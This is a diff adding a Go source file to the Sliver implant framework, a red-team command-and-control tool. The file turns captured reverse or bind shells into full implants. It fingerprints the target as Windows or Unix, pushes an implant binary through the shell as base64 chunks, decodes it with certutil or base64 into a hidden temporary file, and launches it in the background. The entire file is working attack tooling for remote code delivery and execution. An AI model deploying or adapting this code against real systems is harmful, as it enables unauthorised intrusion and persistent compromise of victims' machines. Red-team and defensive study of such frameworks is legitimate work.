@@ -0,0 +1,266 @@
+package c2
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+	------------------------------------------------------------------------
+
+	Upgrades plain reverse/bind tcp shells (sh or cmd.exe) from third party stubs
+	into implants: the shell's platform is detected, the matching implant is written
+	to disk through the shell base64 encoded, and then run in the background.
+
+*/
+
+import (
+	"bufio"
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"strings"
+	"time"
+
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/server/log"
+)
+
+const (
+	shellProbeTimeout   = 30 * time.Second
+	shellUpgradeTimeout = 10 * time.Minute
+	shellChunkSize      = 4096 // base64 chars per command, well under cmd.exe's 8191 char limit
+)
+
+var (
+	shellLog = log.NamedLogger("c2", "shell-upgrade")
+
+	// ErrUnknownShell - The connection didn't answer like sh or cmd.exe
+	ErrUnknownShell = errors.New("unknown shell")
+	// ErrNoShellImplant - None of the implants are for the shell's platform
+	ErrNoShellImplant = errors.New("no implant for the shell's platform")
+	// ErrShellTimeout - The shell didn't finish a command in time
+	ErrShellTimeout = errors.New("shell timed out")
+)
+
+// StartShellUpgradeListener - Start a listener for plain reverse tcp shells
+func StartShellUpgradeListener(bindIface string, port uint16, implants []*clientpb.ShellUpgradeImplant) (net.Listener, error) {
+	shellLog.Infof("Starting shell upgrade listener on %s:%d", bindIface, port)
+	ln, err := net.Listen("tcp", fmt.Sprintf("%s:%d", bindIface, port))
+	if err != nil {
+		shellLog.Error(err)
+		return nil, err
+	}
+	go func() {
+		for {
+			conn, err := ln.Accept()
+			if err != nil {
+				if errType, ok := err.(*net.OpError); ok && errType.Op == "accept" {
+					break
+				}
+				shellLog.Errorf("Accept failed: %v", err)
+				continue
+			}
+			go handleShellConnection(conn, implants)
+		}
+	}()
+	return ln, nil
+}
+
+// ConnectBindShell - Connect to a bind shell, it's upgraded in the background
+func ConnectBindShell(address string, implants []*clientpb.ShellUpgradeImplant) error {
+	shellLog.Infof("Connecting to bind shell %s", address)
+	conn, err := net.DialTimeout("tcp", address, shellProbeTimeout)
+	if err != nil {
+		return err
+	}
+	go handleShellConnection(conn, implants)
+	return nil
+}
+
+func handleShellConnection(conn net.Conn, implants []*clientpb.ShellUpgradeImplant) {
+	defer conn.Close()
+	shellLog.Infof("Upgrading shell from %s", conn.RemoteAddr())
+	conn.SetDeadline(time.Now().Add(shellUpgradeTimeout))
+	err := UpgradeShell(conn, implants)
+	if err != nil {
+		shellLog.Errorf("Failed to upgrade shell from %s: %s", conn.RemoteAddr(), err)
+		return
+	}
+	shellLog.Infof("Started implant via shell from %s", conn.RemoteAddr())
+}
+
+// UpgradeShell - Detect the platform of a plain shell and run the matching implant
+func UpgradeShell(conn io.ReadWriter, implants []*clientpb.ShellUpgradeImplant) error {
+	sh := newShell(conn)
+	goos, goarch, err := sh.platform()
+	if err != nil {
+		return err
+	}
+	shellLog.Infof("Shell platform is %s/%s", goos, goarch)
+	var implant *clientpb.ShellUpgradeImplant
+	for _, candidate := range implants {
+		if candidate.GOOS == goos && candidate.GOARCH == goarch {
+			implant = candidate
+			break
+		}
+	}
+	if implant == nil {
+		return fmt.Errorf("%w (%s/%s)", ErrNoShellImplant, goos, goarch)
+	}
+	err = sh.run(implant.Data)
+	if err != nil {
+		return err
+	}
+	sh.send("exit")
+	return nil
+}
+
+// shell - A plain sh or cmd.exe shell on the other end of a connection. Only lines
+// with our random marker are read, and cmd.exe echoes every command back so a marker
+// right after an 'echo' is the command and not its output.
+type shell struct {
+	conn    io.ReadWriter
+	marker  string
+	windows bool
+	lines   chan string
+}
+
+func newShell(conn io.ReadWriter) *shell {
+	buf := make([]byte, 8)
+	rand.Read(buf)
+	sh := &shell{
+		conn:   conn,
+		marker: hex.EncodeToString(buf),
+		lines:  make(chan string, 16),
+	}
+	go sh.read()
+	return sh
+}
+
+func (sh *shell) read() {
+	defer close(sh.lines)
+	scanner := bufio.NewScanner(sh.conn)
+	scanner.Buffer(make([]byte, 64*1024), 1024*1024)
+	for scanner.Scan() {
+		line := strings.TrimSpace(scanner.Text())
+		index := strings.Index(line, sh.marker+":")
+		if index == -1 || strings.HasSuffix(strings.TrimSpace(line[:index]), "echo") {
+			continue
+		}
+		sh.lines <- line[index:]
+	}
+}
+
+func (sh *shell) send(command string) error {
+	if sh.windows {
+		command += "\r\n"
+	} else {
+		command += "\n"
+	}
+	_, err := sh.conn.Write([]byte(command))
+	return err
+}
+
+// expect - The ':' separated fields of the next marked line
+func (sh *shell) expect(timeout time.Duration) ([]string, error) {
+	select {
+	case line, ok := <-sh.lines:
+		if !ok {
+			return nil, io.EOF
+		}
+		return strings.Split(strings.TrimSuffix(line, ":"), ":")[1:], nil
+	case <-time.After(timeout):
+		return nil, ErrShellTimeout
+	}
+}
+
+// platform - The GOOS and GOARCH of the shell, %VARS% are only expanded by cmd.exe
+func (sh *shell) platform() (string, string, error) {
+	sh.send(fmt.Sprintf("echo %s:%%OS%%:%%PROCESSOR_ARCHITECTURE%%:%%PROCESSOR_ARCHITEW6432%%:", sh.marker))
+	fields, err := sh.expect(shellProbeTimeout)
+	if err != nil {
+		return "", "", ErrUnknownShell
+	}
+	if len(fields) == 3 && fields[0] == "Windows_NT" {
+		sh.windows = true
+		arch := fields[1]
+		if fields[2] != "%PROCESSOR_ARCHITEW6432%" && fields[2] != "" {
+			arch = fields[2] // 32-bit shell on a 64-bit system
+		}
+		return "windows", shellArch(arch), nil
+	}
+	sh.send(fmt.Sprintf("echo %s:$(uname -s):$(uname -m):", sh.marker))
+	fields, err = sh.expect(shellProbeTimeout)
+	if err != nil || len(fields) != 2 || fields[0] == "" || fields[1] == "" {
+		return "", "", ErrUnknownShell
+	}
+	return strings.ToLower(fields[0]), shellArch(fields[1]), nil
+}
+
+// run - Write the implant to disk one base64 chunk at a time and run it
+func (sh *shell) run(data []byte) error {
+	buf := make([]byte, 8)
+	rand.Read(buf)
+	name := hex.EncodeToString(buf)
+	var path string
+	if sh.windows {
+		path = fmt.Sprintf(`%%TEMP%%\%s.exe`, name)
+	} else {
+		path = fmt.Sprintf("/tmp/.%s", name)
+	}
+	encodedPath := path + ".b64"
+
+	encoded := base64.StdEncoding.EncodeToString(data)
+	for start := 0; start < len(encoded); start += shellChunkSize {
+		stop := start + shellChunkSize
+		if len(encoded) < stop {
+			stop = len(encoded)
+		}
+		var err error
+		if sh.windows {
+			// The redirect goes first, otherwise a trailing digit is parsed as a file descriptor
+			err = sh.send(fmt.Sprintf(`>>"%s" echo %s`, encodedPath, encoded[start:stop]))
+		} else {
+			err = sh.send(fmt.Sprintf("echo %s >> '%s'", encoded[start:stop], encodedPath))
+		}
+		if err != nil {
+			return err
+		}
+	}
+	if sh.windows {
+		sh.send(fmt.Sprintf(`certutil -f -decode "%[1]s" "%[2]s" >nul & del "%[1]s" & start "" /b "%[2]s"`, encodedPath, path))
+	} else {
+		sh.send(fmt.Sprintf("(base64 -d '%[1]s' || base64 -D -i '%[1]s') > '%[2]s' 2>/dev/null; rm -f '%[1]s'; chmod +x '%[2]s'; nohup '%[2]s' >/dev/null 2>&1 &", encodedPath, path))
+	}
+	sh.send(fmt.Sprintf("echo %s:done:", sh.marker))
+	_, err := sh.expect(shellUpgradeTimeout)
+	return err
+}
+
+// shellArch - Convert the architecture reported by uname or cmd.exe to a GOARCH
+func shellArch(arch string) string {
+	switch strings.ToLower(arch) {
+	case "x86_64", "amd64", "x64":
+		return "amd64"
+	case "aarch64", "arm64", "armv8":
+		return "arm64"
+	case "i386", "i686", "x86":
+		return "386"
+	}
+	return strings.ToLower(arch)
+}